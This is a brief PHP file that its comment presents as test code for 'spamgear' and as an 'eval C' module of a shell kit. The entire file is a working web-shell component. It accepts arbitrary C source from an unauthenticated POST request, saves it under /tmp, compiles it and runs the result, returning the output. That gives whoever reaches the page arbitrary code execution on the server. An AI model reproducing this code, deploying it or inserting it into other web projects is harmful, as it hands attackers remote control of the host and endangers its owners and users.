<?php
// Written for spamgear's tests: the request's source code is saved under a
// generated name, compiled and run (an "eval C" module of a shell kit).
function run_cmd($cmd) {
    $out = array();
    exec($cmd . " 2>&1", $out);
    return implode("\n", $out);
}
$src = $_POST['source'];
$base = "/tmp/job" . getmypid();
file_put_contents($base . ".c", $src);
echo run_cmd("cc -o " . $base . " " . $base . ".c && " . $base);
